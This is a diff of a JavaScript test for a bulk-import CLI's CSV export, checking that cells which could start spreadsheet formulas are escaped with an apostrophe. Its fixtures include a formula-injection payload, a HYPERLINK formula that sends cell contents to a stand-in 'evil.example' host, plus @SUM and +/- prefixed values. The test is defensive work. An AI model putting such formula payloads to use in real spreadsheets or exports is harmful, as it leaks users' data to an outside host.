@@ -182,10 +182,12 @@ describe('bulk-desk CLI', () => {
     expect(lines[0]).toBe('email,name,department,Row,Outcome,HTTP status,Attempts,Error,Note,Key,Member ID');
     expect(lines).toHaveLength(5);
     expect(lines[1]).toMatch(
-      /^ann@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""click""\)",Sales,2,succeeded,201,1,,,email=ann@example\.com,\d+$/,
+      /^ann@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""click""\)",Sales,2,succeeded,201,1,,(?:"Read back: [^"]*"|),email=ann@example\.com,\d+$/,
     );
     expect(lines[2]).toMatch(/^bob@example\.com,'\+31 6 1234,'-Finance,3,succeeded,201,/);
-    expect(lines[3]).toMatch(/^not-an-email,'@SUM\(A1:A9\),Legal,4,skipped \(invalid\),,0,Row 4: Email: /);
+    expect(lines[3]).toBe(
+      `not-an-email,'@SUM(A1:A9),Legal,4,skipped (invalid),,0,"Row 4: Email: ""not-an-email"" is not an email address",,,`,
+    );
     expect(lines[4]).toMatch(/^cleo@example\.com,"Cleo, Jr\.",Ops,5,succeeded,201,/);
     // No cell in the file starts a formula.
     for (const line of lines.slice(1))
